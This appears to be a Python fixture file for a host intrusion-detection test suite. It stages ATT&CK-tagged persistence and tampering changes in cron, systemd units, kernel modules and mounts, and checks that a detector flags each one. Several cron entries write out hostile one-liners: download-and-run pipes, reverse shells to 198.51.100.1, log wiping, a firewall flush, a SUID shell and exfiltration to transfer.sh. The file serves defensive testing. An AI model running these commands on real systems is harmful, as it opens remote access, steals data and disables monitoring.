"""What starts or stays by itself: scheduled jobs, units, kernel modules, mounts."""

from tests.detect.coverage.entry import Entry, Found
from tests.detect.coverage.stage import Change, Stage, job, module, mount, unit

__all__ = ["ENTRIES"]

_CRON_D = "/etc/cron.d/x"
_SPOOL = "/var/spool/cron/crontabs"


def _found(subject: str, within: int = 0) -> Found:
    return Found(expert="inventory", subject=subject, within=within)


def _job(path: str, command: str, when: str = "17 3 * * *") -> Change:
    def change(stage: Stage) -> None:
        stage.add("crontab", job(path, command, when))
        if path.startswith("/etc/"):
            stage.write(path)

    return change


def _cron(
    name: str, path: str, command: str, evidence: str, when: str = "17 3 * * *", role: str = "web"
) -> Entry:
    return Entry(
        id="T1053.003",
        name=name,
        evidence=f"`crontab`: {evidence}",
        steps=(_job(path, command, when),),
        expect=_found(f"cron:{path}"),
        role=role,
    )


def _unit(name: str, folder: str, state: str = "enabled") -> Change:
    return lambda stage: stage.add("systemd_units", unit(name, state, folder))


def _state(name: str, state: str) -> Change:
    def change(stage: Stage) -> None:
        stage.edit("systemd_units", {"id": name}, unit_file_state=state)
        if state == "masked":
            path = f"/etc/systemd/system/{name}"
            stage.edit("systemd_units", {"id": name}, fragment_path=path)

    return change


def _module(name: str) -> Change:
    return lambda stage: stage.add("kernel_modules", module(name))


def _flags(path: str, flags: str) -> Change:
    return lambda stage: stage.edit("mounts", {"path": path}, flags=flags)


def _mount(path: str, device: str, kind: str) -> Change:
    return lambda stage: stage.add("mounts", mount(path, device, kind))


def _write(path: str) -> Change:
    return lambda stage: stage.write(path)


def _override(stage: Stage) -> None:
    stage.edit(
        "systemd_units", {"id": "cron.service"}, fragment_path="/etc/systemd/system/cron.service"
    )


def _no_job(stage: Stage) -> None:
    stage.drop("crontab", path=f"{_SPOOL}/root")


_FETCH = "curl -fsSL http://198.51.100.1/a | sh"
_CRON = (
    _cron("a job from a temporary directory", _CRON_D, "root /tmp/.x/upd", "a program in /tmp"),
    _cron("a job from shared memory", f"{_SPOOL}/root", "/dev/shm/k", "a program in /dev/shm"),
    _cron(
        "a job that runs a hidden program",
        f"{_SPOOL}/ana",
        "/home/ana/.sys/agent",
        "a program in a hidden directory",
        "@reboot",
    ),
    _cron("a job that fetches and runs", _CRON_D, f"root {_FETCH}", "a download piped to a shell"),
    _cron(
        "a job that fetches, marks and runs",
        f"{_SPOOL}/root",
        "wget -q -O /var/tmp/u http://198.51.100.1/u; chmod +x /var/tmp/u; /var/tmp/u",
        "a download that is made a program",
        role="database",
    ),
    _cron(
        "a job that decodes its code",
        _CRON_D,
        "root echo aWQK | base64 -d | bash",
        "decoded text piped to a shell",
    ),
    _cron(
        "a job that decodes its code in an interpreter",
        f"{_SPOOL}/root",
        "python3 -c \"import base64;exec(base64.b64decode('aWQK'))\"",
        "code that decodes itself",
    ),
    _cron(
        "a reverse shell in bash",
        _CRON_D,
        "root bash -c 'bash -i >& /dev/tcp/198.51.100.1/4444 0>&1'",
        "a shell on a socket",
        "*/5 * * * *",
    ),
    _cron(
        "a reverse shell in perl",
        _CRON_D,
        "root perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);exec(\"/bin/sh -i\");'",
        "a shell on a socket",
    ),
    _cron(
        "a reverse shell in python",
        f"{_SPOOL}/worker",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.1",443));'
        'os.dup2(s.fileno(),0);pty.spawn("sh")\'',
        "a shell on a socket",
    ),
    _cron(
        "a reverse shell over openssl",
        _CRON_D,
        "root mkfifo /tmp/s; sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.1:443 > /tmp/s",
        "a shell on a socket",
    ),
    _cron(
        "a reverse shell in socat",
        _CRON_D,
        "root socat exec:'bash -li',pty,stderr tcp:198.51.100.1:443",
        "a shell on a socket",
    ),
    _cron(
        "a reverse shell in ruby",
        _CRON_D,
        'root ruby -rsocket -e \'f=TCPSocket.open("198.51.100.1",443).to_i;exec sprintf("/bin/sh -i <&%d",f)\'',
        "a shell on a socket",
    ),
    _cron(
        "inline code of an interpreter",
        f"{_SPOOL}/root",
        "python3 -c 'import urllib.request as u;u.urlopen(\"http://198.51.100.1/\")'",
        "an interpreter with code in its command line",
    ),
    _cron(
        "a job of the web server's account",
        f"{_SPOOL}/www-data",
        "/srv/app/up.sh",
        "a job of a service account",
        "* * * * *",
    ),
    _cron(
        "a job of the database's account",
        f"{_SPOOL}/postgres",
        "/var/lib/postgresql/u.sh",
        "a job of a service account",
        role="database",
    ),
    _cron(
        "a program among data",
        _CRON_D,
        "root nohup /var/lib/dbus/x > /dev/null 2>&1",
        "a program in /var/lib",
        "* * * * *",
    ),
    _cron(
        "a job of the application's own account",
        f"{_SPOOL}/worker",
        "/srv/app/bin/sync",
        "a job of an account that can't log in",
        role="build",
    ),
    _cron(
        "a job that fetches and runs by one program",
        _CRON_D,
        "root busybox wget http://198.51.100.1/x -O- | busybox sh",
        "a download piped to a shell",
    ),
    _cron(
        "a program in a home at every start",
        f"{_SPOOL}/ana",
        "/home/ana/bin/sync",
        "a program in a home, run at every start",
        "@reboot",
    ),
    _cron(
        "a job that opens the firewall",
        _CRON_D,
        "root /usr/sbin/iptables -F",
        "a command that disarms a guard",
        "*/10 * * * *",
    ),
    _cron(
        "a job that keeps the logger stopped",
        _CRON_D,
        "root systemctl stop rsyslog",
        "a command that disarms a guard",
        "*/10 * * * *",
    ),
    _cron(
        "a job that cleans up after itself",
        _CRON_D,
        "root truncate -s 0 /var/log/auth.log",
        "a command that clears logs",
        "0 * * * *",
    ),
    _cron(
        "a tunnel that is kept up",
        f"{_SPOOL}/ana",
        "ssh -f -N -R 2222:localhost:22 u@198.51.100.1",
        "a reverse tunnel",
        "*/10 * * * *",
        role="admin",
    ),
    _cron(
        "a miner",
        f"{_SPOOL}/worker",
        "/srv/app/bin/w -o stratum+tcp://198.51.100.1:3333 --donate-level 1",
        "a miner's arguments",
        "@reboot",
        role="build",
    ),
    _cron(
        "a job that gives a shell root's rights",
        _CRON_D,
        "root cp /bin/bash /usr/share/b; chmod 4755 /usr/share/b",
        "a command that sets a SUID bit",
    ),
    _cron(
        "data sent away every night",
        _CRON_D,
        "root tar czf - /srv | curl -T - https://transfer.sh/x",
        "data piped to a stranger",
    ),
    Entry(
        id="T1053.003",
        name="a script among the daily ones",
        evidence="`hash`: a new file in /etc/cron.daily",
        steps=(_write("/etc/cron.daily/man-db-update"),),
        expect=_found("file:/etc/cron.daily/man-db-update"),
    ),
    Entry(
        id="T1053.003",
        name="a daily script is changed",
        evidence="`hash`: a file in /etc/cron.daily changes without a package",
        steps=(_write("/etc/cron.daily/logrotate"),),
        expect=_found("file:/etc/cron.daily/logrotate"),
    ),
    Entry(
        id="T1574.007",
        name="the path of scheduled jobs is changed",
        evidence="`hash`: /etc/crontab changes while no job does",
        steps=(_write("/etc/crontab"),),
        expect=_found("file:/etc/crontab"),
    ),
    Entry(
        id="T1053.002",
        name="a job of at(1)",
        evidence="`hash`: a new file in at's spool",
        steps=(_write("/var/spool/cron/atjobs/a0000101c8f2a0"),),
        expect=_found("file:/var/spool/cron/atjobs/a0000101c8f2a0"),
        needs="at's spool among the watched files",
    ),
    Entry(
        id="T1490",
        name="the nightly backup is taken out",
        evidence="`crontab`: the row of a backup job is gone",
        steps=(_no_job,),
        expect=_found(f"cron:{_SPOOL}/root", within=2),
        role="database",
    ),
)
_UNITS = (
    Entry(
        id="T1543.002",
        name="a service made by hand",
        evidence="`systemd_units`: a new service in /etc/systemd/system",
        steps=(_unit("sysupd.service", "/etc/systemd/system"),),
        expect=_found("unit:sysupd.service"),
    ),
    Entry(
        id="T1543.002",
        name="a service among the packaged ones, without a package",
        evidence="`systemd_units`: a new service in /lib/systemd/system, no package changed",
        steps=(_unit("dbus-monitor.service", "/lib/systemd/system"),),
        expect=_found("unit:dbus-monitor.service"),
        role="database",
    ),
    Entry(
        id="T1543.002",
        name="a service in shared memory",
        evidence="`systemd_units`: a unit file in a temporary place",
        steps=(_unit("x.service", "/dev/shm"),),
        expect=_found("unit:x.service"),
    ),
    Entry(
        id="T1543.002",
        name="a service linked in from elsewhere",
        evidence="`systemd_units`: a new unit in the state linked",
        steps=(_unit("gsd.service", "/etc/systemd/system", "linked"),),
        expect=_found("unit:gsd.service"),
        role="build",
    ),
    Entry(
        id="T1543.002",
        name="a packaged service is overridden by hand",
        evidence="`systemd_units`: a unit's file moves from /lib to /etc",
        steps=(_override,),
        expect=_found("unit:cron.service"),
    ),
    Entry(
        id="T1543.002",
        name="the root shell on a console is enabled",
        evidence="`systemd_units`: debug-shell.service is enabled",
        steps=(_state("debug-shell.service", "enabled"),),
        before=lambda stage: stage.add("systemd_units", unit("debug-shell.service", "disabled")),
        expect=_found("unit:debug-shell.service"),
    ),
    Entry(
        id="T1053.006",
        name="a timer made by hand",
        evidence="`systemd_units`: a new timer in /etc/systemd/system",
        steps=(_unit("sysupd.timer", "/etc/systemd/system"),),
        expect=_found("unit:sysupd.timer"),
    ),
    Entry(
        id="T1543.002",
        name="a service that a path wakes",
        evidence="`systemd_units`: a new path unit in /etc/systemd/system",
        steps=(_unit("upd.path", "/etc/systemd/system"),),
        expect=_found("unit:upd.path"),
    ),
    Entry(
        id="T1543.002",
        name="a service that a socket wakes",
        evidence="`systemd_units`: a new socket unit in /etc/systemd/system",
        steps=(_unit("upd.socket", "/etc/systemd/system"),),
        expect=_found("unit:upd.socket"),
    ),
    Entry(
        id="T1562.012",
        name="the audit service is masked",
        evidence="`systemd_units`: auditd.service becomes masked",
        steps=(_state("auditd.service", "masked"),),
        expect=_found("unit:auditd.service"),
    ),
    Entry(
        id="T1562.001",
        name="the logger is disabled",
        evidence="`systemd_units`: rsyslog.service becomes disabled",
        steps=(_state("rsyslog.service", "disabled"),),
        expect=_found("unit:rsyslog.service"),
        role="admin",
    ),
    Entry(
        id="T1562.001",
        name="the logger's unit is deleted",
        evidence="`systemd_units`: rsyslog.service is gone",
        steps=(lambda stage: stage.drop("systemd_units", id="rsyslog.service"),),
        expect=_found("unit:rsyslog.service", within=2),
    ),
    Entry(
        id="T1489",
        name="a service is masked",
        evidence="`systemd_units`: the role's service becomes masked",
        steps=(_state("nginx.service", "masked"),),
        expect=_found("unit:nginx.service"),
    ),
    Entry(
        id="ops.time-sync-off",
        name="the clock is no longer kept",
        evidence="`systemd_units`: chrony.service becomes disabled",
        steps=(_state("chrony.service", "disabled"),),
        expect=_found("unit:chrony.service"),
    ),
    Entry(
        id="ops.updates-off",
        name="the nightly security updates are switched off",
        evidence="`systemd_units`: apt-daily-upgrade.timer becomes masked",
        steps=(_state("apt-daily-upgrade.timer", "masked"),),
        expect=_found("unit:apt-daily-upgrade.timer"),
        role="build",
    ),
    Entry(
        id="ops.rotation-off",
        name="logs are no longer rotated",
        evidence="`systemd_units`: logrotate.timer becomes disabled",
        steps=(_state("logrotate.timer", "disabled"),),
        expect=_found("unit:logrotate.timer"),
    ),
)
_KERNEL = (
    Entry(
        id="T1547.006",
        name="a strange kernel module",
        evidence="`kernel_modules`: a name that no common driver bears",
        steps=(_module("diamorphine"),),
        expect=_found("module:diamorphine"),
    ),
    Entry(
        id="T1014",
        name="a module named a little like a driver",
        evidence="`kernel_modules`: a name that no common driver bears",
        steps=(_module("netkit64"),),
        expect=_found("module:netkit64"),
        role="database",
    ),
    Entry(
        id="T1564",
        name="a process hidden under a mount",
        evidence="`mounts`: something on /proc/<pid>",
        steps=(_mount("/proc/4711", "tmpfs", "tmpfs"),),
        expect=_found("mount:/proc/4711"),
    ),
    Entry(
        id="T1564.013",
        name="a file hidden under a bind mount",
        evidence="`mounts`: something new on a file of /etc",
        steps=(_mount("/etc/passwd", "/dev/vda1", "ext4"),),
        expect=_found("mount:/etc/passwd"),
    ),
    Entry(
        id="T1554",
        name="a program laid over by a mount",
        evidence="`mounts`: something new on a program of /usr/bin",
        steps=(_mount("/usr/bin/ps", "/dev/vda1", "ext4"),),
        expect=_found("mount:/usr/bin/ps"),
    ),
    Entry(
        id="T1070.002",
        name="the logs laid over by an empty file system",
        evidence="`mounts`: a tmpfs on /var/log",
        steps=(_mount("/var/log", "tmpfs", "tmpfs"),),
        expect=_found("mount:/var/log"),
    ),
    Entry(
        id="T1611",
        name="control groups mounted to break out of a container",
        evidence="`mounts`: a cgroup file system outside /sys/fs/cgroup",
        steps=(_mount("/tmp/cgrp", "cgroup", "cgroup"),),
        expect=_found("mount:/tmp/cgrp"),
        role="build",
    ),
    Entry(
        id="T1611",
        name="the machine's own disk mounted once more",
        evidence="`mounts`: the root's device at another place",
        steps=(_mount("/mnt/h", "/dev/vda1", "ext4"),),
        expect=_found("mount:/mnt/h"),
        role="build",
    ),
    Entry(
        id="T1564.005",
        name="a hidden file system",
        evidence="`mounts`: a mount point with a hidden name",
        steps=(_mount("/usr/share/.fs", "/dev/loop7", "ext4"),),
        expect=_found("mount:/usr/share/.fs"),
    ),
    Entry(
        id="T1567",
        name="a stranger's storage mounted",
        evidence="`mounts`: a file system over ssh or of a cloud store",
        steps=(_mount("/mnt/x", "u@198.51.100.1:/srv", "fuse.sshfs"),),
        expect=_found("mount:/mnt/x"),
        role="database",
    ),
    Entry(
        id="T1222.002",
        name="programs may run from the temporary directory",
        evidence="`mounts`: noexec is gone from /tmp",
        steps=(_flags("/tmp", "rw,nosuid,nodev"),),
        before=_flags("/tmp", "rw,nosuid,nodev,noexec"),
        expect=_found("mount:/tmp"),
        needs="flags of mounts",
    ),
    Entry(
        id="ops.read-only",
        name="the disk can no longer be written to",
        evidence="`mounts`: the root file system is read-only",
        steps=(_flags("/", "ro"),),
        before=_flags("/", "rw"),
        expect=_found("mount:/"),
        role="database",
        needs="flags of mounts",
    ),
    Entry(
        id="ops.mount-lost",
        name="the data disk is no longer mounted",
        evidence="`mounts`: the row of a lasting file system is gone",
        steps=(lambda stage: stage.drop("mounts", path="/var/lib/data"),),
        expect=_found("mount:/var/lib/data", within=2),
        role="database",
    ),
)

ENTRIES = (*_CRON, *_UNITS, *_KERNEL)
